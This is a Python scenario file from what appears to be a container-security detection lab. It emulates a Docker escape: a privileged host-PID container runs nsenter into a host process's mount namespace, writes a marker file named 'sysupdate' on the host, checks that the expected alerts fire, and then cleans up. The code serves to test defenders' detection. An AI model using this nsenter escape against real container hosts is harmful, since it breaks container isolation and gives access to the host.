"""From a privileged host-PID container, nsenter into a host process's mount namespace and write
a file on the host."""

from __future__ import annotations

import secrets
import subprocess

from lab import Lab, LabError, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario


class NsenterHost(Scenario):
    id = "docker.escape.nsenter-host"
    title = "Privileged host-PID container escapes with nsenter and writes on the host"
    kind = Kind.ADVERSARY
    techniques = ("T1611", "T1610", "T1609")
    backends = ("docker",)
    expect = Expectation(fires=("stowaway.docker.privileged-container", "stowaway.docker.host-namespace",
                                "stowaway.docker.exec-escape-tool"), within_s=15)
    twin = "docker.escape.monitoring-agent"
    tags = ("escape", "privilege-escalation")
    description = (
        "Starts a host process (`sleep`) that stands for a host daemon, then deploys a privileged "
        "container in the host PID namespace. Through `docker exec` it runs `nsenter -t <that "
        "process's pid> -m` to enter the host's mount namespace and writes a marker file into a "
        "lab-owned host directory. The scenario checks the marker exists on the host with the "
        "content written from the container, then removes it and stops the host process."
    )

    def detonate(self, lab: Lab) -> None:
        # Names a host would have: the directory and the file are telemetry (command lines, FIM).
        marker = lab.host_dir("spool") / "sysupdate"
        host_process = subprocess.Popen(["sleep", "600"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                        stderr=subprocess.DEVNULL, start_new_session=True)
        lab.cleanup(f"stop host process {host_process.pid}", lambda: (host_process.kill(), host_process.wait()))
        lab.cleanup(f"remove marker {marker}", lambda: marker.unlink(missing_ok=True))
        lab.action("deploy a privileged container in the host PID namespace")
        box = lab.deploy(WorkloadSpec(role="tools", privileged=True, pid_mode="host"))
        token = secrets.token_hex(8)
        lab.plant("process", "/usr/bin/nsenter")  # what a responder's evidence must name
        lab.exec(box, "nsenter", "-t", str(host_process.pid), "-m", "--", "sh", "-c", f"echo {token} > {marker}")
        if not marker.exists() or marker.read_text().strip() != token:
            raise LabError(f"the marker {marker} was not written on the host from the container")
        marker.unlink()
